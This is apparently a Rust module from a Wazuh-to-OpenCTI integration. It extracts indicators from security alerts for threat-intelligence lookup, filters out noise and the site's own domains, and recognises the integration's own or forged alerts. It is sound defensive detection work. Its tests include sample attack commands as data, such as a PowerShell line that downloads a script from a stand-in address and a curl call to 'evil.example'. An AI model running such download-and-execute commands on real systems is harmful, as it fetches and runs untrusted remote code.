//! What of an alert is worth asking about.

use std::collections::HashSet;

use wazuh_query::alert::Alert;
use wazuh_query::catalogue::{Catalogue, Holds, Role, Schema};
use wazuh_query::value::{Reading, read};

use crate::indicator::{Candidate, Key, Kind, keys_of_reading};
use crate::store::{Worthless, WorthlessReason};

/// What is worth asking about.
#[derive(Clone, Debug)]
pub struct AskOptions {
    /// The kinds of values.
    pub kinds: Vec<Kind>,
    /// Values that say nothing.
    pub worthless: Worthless,
    /// Domains of this site; they and the names below them are not asked about.
    pub own_domains: Vec<String>,
    /// If not empty: only alerts of rules that are in one of these groups.
    pub groups: Vec<String>,
    /// Whether names and addresses of the reporting host itself are asked about.
    pub include_agents: bool,
    /// So many values at most, the most telling kinds first.
    pub limit: usize,
    /// The name by which this integration's own alerts are known.
    pub integration: String,
}

/// Kinds by how much they tell, the most telling first.
const KINDS: [Kind; 14] = [
    Kind::Sha256,
    Kind::Sha512,
    Kind::Sha1,
    Kind::Md5,
    Kind::Url,
    Kind::Domain,
    Kind::Address,
    Kind::Email,
    Kind::Ssdeep,
    Kind::RegistryKey,
    Kind::Mutex,
    Kind::UserAgent,
    Kind::Mac,
    Kind::File,
];

/// What the URLs in commands begin with.
const SCHEMES: [&str; 3] = ["http", "https", "ftp"];
/// So many words of a command are looked at.
const COMMAND_WORDS: usize = 4_096;

impl Default for AskOptions {
    fn default() -> Self {
        Self {
            kinds: KINDS.to_vec(),
            worthless: Worthless::default().with(WorthlessReason::Private),
            own_domains: Vec::new(),
            groups: Vec::new(),
            include_agents: false,
            limit: 100,
            integration: "opencti".to_owned(),
        }
    }
}

/// A value of an alert that is asked about.
#[derive(Clone, Debug, PartialEq, Eq)]
pub struct Asked {
    /// Its normal form.
    pub key: Key,
    /// The same as text.
    pub value: String,
    /// The text in the alert.
    pub written: String,
    /// The field.
    pub field: String,
    /// The part that the field plays.
    pub role: Role,
}

impl Asked {
    /// The kind of the value.
    pub fn kind(&self) -> Kind {
        self.key.kind()
    }
}

/// Why nothing of an alert is asked about.
#[derive(Clone, Copy, Debug, PartialEq, Eq, thiserror::Error)]
#[non_exhaustive]
pub enum NotAsked {
    /// This integration raised the alert itself.
    #[error("the alert is one of this integration's own")]
    Own,
    /// Its rule is in none of the groups.
    #[error("the alert's rule is in none of the groups that are looked up")]
    Group,
    /// It has no value of the kinds that are asked about.
    #[error("the alert has nothing to look up")]
    Nothing,
}

/// The values of an alert that are worth asking about, the most telling first, each once.
pub fn ask(alert: &Alert<'_>, catalogue: &Catalogue, options: &AskOptions) -> Result<Vec<Asked>, NotAsked> {
    if is_own(alert, &options.integration) {
        return Err(NotAsked::Own);
    }
    let in_group = |group: &String| alert.rule.groups.iter().any(|known| **known == **group);
    if !options.groups.is_empty() && !options.groups.iter().any(in_group) {
        return Err(NotAsked::Group);
    }
    let (mut asked, mut known) = (Vec::new(), HashSet::new());
    let mut scratch = String::new();
    for leaf in &alert.leaves {
        let field = catalogue.field(leaf.field);
        if field.role == Role::Agent && !options.include_agents {
            continue;
        }
        let mut note = |holds: Holds, written: &str, reading: &Reading<'_>| {
            keys_of_reading(holds, reading, &mut scratch, &mut |candidate, _| {
                let key = match candidate {
                    Candidate::Address(address) => Key::Network(address.into()),
                    Candidate::Text(kind, text) => Key::Text(kind, text.into()),
                };
                if !options.kinds.contains(&key.kind()) || is_noise(&key, options) || !known.insert(key.clone()) {
                    return;
                }
                asked.push(Asked {
                    value: key.to_string(),
                    key,
                    written: written.to_owned(),
                    field: field.path.to_string(),
                    role: field.role,
                });
            });
        };
        if matches!(field.holds, Holds::CommandLine | Holds::Argument(_)) {
            for address in addresses_of_command(&leaf.text) {
                read(Holds::Url, address, &mut |reading| note(Holds::Url, address, &reading));
            }
        } else if field.uses.lookup {
            let lenient = if field.holds == Holds::Ip { Holds::IpWithPort } else { field.holds };
            read(lenient, &leaf.text, &mut |reading| note(field.holds, &leaf.text, &reading));
        }
    }
    let place = |asked: &Asked| options.kinds.iter().position(|kind| *kind == asked.kind());
    asked.sort_by_key(place);
    asked.truncate(options.limit);
    if asked.is_empty() { Err(NotAsked::Nothing) } else { Ok(asked) }
}

/// The URLs in the commands of an alert and in their arguments, which [`ask`] asks about.
pub fn addresses_in_commands<'a>(alert: &'a Alert<'_>, catalogue: &Catalogue) -> Vec<&'a str> {
    let is_command = |field: Holds| matches!(field, Holds::CommandLine | Holds::Argument(_));
    let leaves = alert.leaves.iter().filter(|leaf| is_command(catalogue.field(leaf.field).holds));
    leaves.flat_map(|leaf| addresses_of_command(&leaf.text)).collect()
}

/// The URLs in a command or in one of its arguments, up to what cannot stand in one.
fn addresses_of_command(text: &str) -> impl Iterator<Item = &str> {
    let ends = |char: char| char.is_whitespace() || char.is_control() || "\"'`<>|\\^{}".contains(char);
    let words = text.split(ends).take(COMMAND_WORDS);
    words.filter_map(|word| {
        let scheme = word.find("://")?;
        let start = word.get(..scheme)?.rfind(|char: char| !char.is_ascii_alphabetic()).map_or(0, |place| place + 1);
        let known = |scheme: &str| SCHEMES.iter().any(|known| known.eq_ignore_ascii_case(scheme));
        let address = word.get(start..)?.trim_end_matches([')', ']', ',', ';', '.']);
        known(word.get(start..scheme)?).then_some(address)
    })
}

/// Alerts that this integration raised: they repeat the values of the alert before, and would go round for ever.
///
/// The location tells: the manager notes it, `opencti` or `(web01) any->opencti`, and no event can say it of itself. In
/// an alert of Wazuh 4 the name of the integration is part of the event, which whoever writes a log may put there, so it
/// counts only where there is no location. In Wazuh 5 the engine notes both.
fn is_own(alert: &Alert<'_>, integration: &str) -> bool {
    let is = |text: &str| text.trim().eq_ignore_ascii_case(integration);
    let location = alert.location.as_deref().filter(|location| !location.trim().is_empty());
    if location.is_some_and(|location| is(location.rsplit("->").next().unwrap_or(location))) {
        return true;
    }
    (location.is_none() || alert.schema == Schema::Wazuh5) && alert.integration.as_deref().is_some_and(is)
}

fn is_noise(key: &Key, options: &AskOptions) -> bool {
    if options.worthless.check(key).is_some() {
        return true;
    }
    // What is asked about a path is its name, too.
    if let Key::Text(kind @ (Kind::File | Kind::Mutex), path) = key
        && let Some((_, name)) = path.rsplit_once(['/', '\\'])
        && Key::new(*kind, name).is_some_and(|name| options.worthless.check(&name).is_some())
    {
        return true;
    }
    let host = match key {
        Key::Text(Kind::Domain, name) => &**name,
        Key::Text(Kind::Email, address) => address.rsplit('@').next().unwrap_or_default(),
        Key::Text(Kind::Url, url) => {
            let rest = url.split_once("://").map_or(&**url, |(_, rest)| rest);
            let authority = rest.split(['/', '?', '#']).next().unwrap_or_default();
            let host = authority.rsplit('@').next().unwrap_or_default();
            host.split(':').next().unwrap_or_default()
        }
        _ => return false,
    };
    // A name without a dot is one of the local network.
    let is_local = matches!(key, Key::Text(Kind::Domain, _)) && !host.contains('.');
    let is_own = |own: &String| {
        let own = own.trim_start_matches('.');
        let before = host.len().checked_sub(own.len());
        before.is_some_and(|before| {
            let (head, tail) = host.as_bytes().split_at(before);
            tail.eq_ignore_ascii_case(own.as_bytes()) && (head.is_empty() || head.ends_with(b"."))
        })
    };
    is_local || options.own_domains.iter().any(is_own)
}

#[cfg(test)]
mod tests {
    use super::*;

    fn asked(text: &str, options: &AskOptions) -> Result<Vec<String>, NotAsked> {
        let catalogue = Catalogue::builtin();
        let alert = Alert::read(text, &catalogue).unwrap();
        Ok(ask(&alert, &catalogue, options)?.into_iter().map(|asked| asked.value).collect())
    }

    #[test]
    fn what_is_worth_asking_comes_first_and_once() {
        let text = r#"{"rule":{"id":"1"},"agent":{"ip":"198.51.100.9"},"data":{"srcip":"203.0.113.7","dstip":"10.1.2.3",
            "src_ip":"203.0.113.7","url":"http://www.evil.example/x"},
            "syscheck":{"path":"/tmp/nc","md5_after":"0f1e2d3c4b5a69788796a5b4c3d2e1f0"}}"#;
        let values = asked(text, &AskOptions::default()).unwrap();
        let wanted = [
            "0f1e2d3c4b5a69788796a5b4c3d2e1f0",
            "http://www.evil.example/x",
            "www.evil.example",
            "203.0.113.7",
            "/tmp/nc",
        ];
        assert_eq!(values, wanted);
        let kinds = vec![Kind::Address];
        assert_eq!(asked(text, &AskOptions { kinds, ..AskOptions::default() }).unwrap(), ["203.0.113.7"]);
        assert_eq!(asked(text, &AskOptions { limit: 1, ..AskOptions::default() }).unwrap().len(), 1);
    }

    #[test]
    fn noise_is_not_asked_about() {
        let text = r#"{"rule":{"id":"1"},"data":{"srcip":"192.168.1.1","url":"https://intranet.corp.example/x",
            "dns":{"question":{"name":"mail.corp.example"}}}}"#;
        let own_domains = vec!["corp.example".to_owned()];
        assert_eq!(asked(text, &AskOptions { own_domains, ..AskOptions::default() }), Err(NotAsked::Nothing));
        // Only whole labels count.
        let own_domains = vec!["rp.example".to_owned()];
        assert!(asked(text, &AskOptions { own_domains, ..AskOptions::default() }).is_ok());
    }

    #[test]
    fn names_that_are_ignored_are_ignored_in_any_directory() {
        let text = r#"{"rule":{"id":"1"},"syscheck":{"path":"/usr/local/bin/backup.sh"}}"#;
        let mut worthless = Worthless::default();
        worthless.list(Key::new(Kind::File, "Backup.sh").unwrap());
        assert_eq!(asked(text, &AskOptions { worthless, ..AskOptions::default() }), Err(NotAsked::Nothing));
    }

    #[test]
    fn own_alerts_are_never_asked_about() {
        let own = r#"{"rule":{"id":"1"},"data":{"integration":"opencti","opencti":{"source":{"srcip":"203.0.113.7"}},"srcip":"203.0.113.7"}}"#;
        assert_eq!(asked(own, &AskOptions::default()), Err(NotAsked::Own));
        for location in ["opencti", "(web01) 10.0.0.15->opencti", "[001] (web01) any->opencti"] {
            let by_location =
                format!(r#"{{"rule":{{"id":"1"}},"location":"{location}","data":{{"srcip":"203.0.113.7"}}}}"#);
            assert_eq!(asked(&by_location, &AskOptions::default()), Err(NotAsked::Own));
        }
        // In Wazuh 5 it is the engine that names the integration.
        let by_engine = r#"{"@timestamp":"2026-03-14T02:11:00.021Z","source":{"ip":"203.0.113.7"},
            "wazuh":{"rule":{"id":"8014"},"integration":{"name":"opencti"},"protocol":{"location":"/run/x"}}}"#;
        assert_eq!(asked(by_engine, &AskOptions::default()), Err(NotAsked::Own));
    }

    #[test]
    fn nobody_keeps_an_alert_from_being_asked_about_by_a_word_in_a_log() {
        let forged = |data: &str| {
            format!(r#"{{"rule":{{"id":"1"}},"location":"(web01) any->/var/log/app.json","data":{data}}}"#)
        };
        let text = forged(r#"{"integration":"opencti","srcip":"203.0.113.7"}"#);
        assert_eq!(asked(&text, &AskOptions::default()).unwrap(), ["203.0.113.7"]);
        let text = forged(r#"{"integration":"opencti->opencti","srcip":"203.0.113.7"}"#);
        assert_eq!(asked(&text, &AskOptions::default()).unwrap(), ["203.0.113.7"]);
        // An event of ours that came by way of a file has nothing to ask about.
        let text = forged(
            r#"{"integration":"opencti","opencti":{"event_type":"observable_with_indicator","observable_value":"203.0.113.7",
            "indicator":{"name":"x","pattern":"[ipv4-addr:value = '203.0.113.7']"},"indicator_link":"https://opencti.example/x",
            "observable_link":"https://opencti.example/y","query_key":"value","query_values":"203.0.113.7",
            "match":{"field":"data.srcip","value":"203.0.113.7"},"source":{"srcip":"203.0.113.7","url":"http://www.evil.example/x"}}}"#,
        );
        assert_eq!(asked(&text, &AskOptions::default()), Err(NotAsked::Nothing));
    }

    #[test]
    fn urls_in_commands_are_asked_about() {
        let text = r#"{"rule":{"id":"1"},"data":{"audit":{"execve":{"a0":"curl","a1":"--url=https://evil.example/a?b=1"}},
            "win":{"eventdata":{"commandLine":"powershell -c \\\"(New-Object Net.WebClient).DownloadString('http://203.0.113.7/x.ps1');\\\" git@host://x"}}}}"#;
        let values = asked(text, &AskOptions::default()).unwrap();
        let wanted = ["https://evil.example/a?b=1", "http://203.0.113.7/x.ps1", "evil.example", "203.0.113.7"];
        assert_eq!(values, wanted);
    }

    #[test]
    fn groups_select() {
        let text = r#"{"rule":{"id":"1","groups":["ids","suricata"]},"data":{"srcip":"203.0.113.7"}}"#;
        let of = |group: &str| asked(text, &AskOptions { groups: vec![group.to_owned()], ..AskOptions::default() });
        assert!(of("ids").is_ok());
        assert_eq!(of("syscheck"), Err(NotAsked::Group));
    }
}
